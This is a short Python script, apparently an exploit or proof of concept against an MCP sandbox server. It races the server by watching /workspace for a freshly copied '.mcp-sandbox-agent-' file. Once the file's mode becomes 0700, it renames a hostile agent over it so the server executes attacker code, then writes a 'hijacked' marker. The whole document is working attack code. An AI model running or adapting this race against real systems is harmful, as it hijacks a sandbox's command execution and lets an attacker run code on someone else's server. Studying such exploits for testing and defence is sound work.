# Waits for the server to copy a fresh command agent into the workspace
# and, once it is complete (mode 0700), renames the hostile agent over it
# before the server runs it. Writes /workspace/hijacked when done.
import os, sys, time

hostile, deadline = sys.argv[1], time.time() + 120
while time.time() < deadline:
    for n in os.listdir("/workspace"):
        if not n.startswith(".mcp-sandbox-agent-"):
            continue
        p = "/workspace/" + n
        try:
            if os.stat(p).st_mode & 0o777 == 0o700:
                os.rename(hostile, p)
                open("/workspace/hijacked", "w").write(n)
                sys.exit(0)
        except OSError:
            pass
    time.sleep(0.0005)
